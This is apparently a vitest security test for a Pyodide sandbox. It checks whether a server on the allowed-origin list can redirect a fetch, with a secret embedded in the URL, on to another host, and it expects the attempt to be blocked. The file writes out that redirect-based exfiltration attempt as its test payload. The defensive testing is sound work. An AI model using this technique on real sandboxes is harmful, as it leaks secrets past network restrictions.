// A redirect from an allowed origin.
// tries: have an allowed server lead the page to another, with the secret in the address
// must: fail, and the other server hears nothing
import { inject } from 'vitest';
import type { Attack } from '../../attack.ts';

export default async function follow(attack: Attack): Promise<string> {
  const site = inject('otherSite');
  const sandbox = await attack.sandbox({ network: { origins: [site] } });
  const { error } = await sandbox.run(
    `from pyodide.http import pyfetch\nawait pyfetch("${site}/redirect/${encodeURIComponent(attack.out)}")`,
  );
  return /redirects to another address/.test(error?.message ?? '') ? 'blocked: it fails' : `escaped: ${error?.message}`;
}
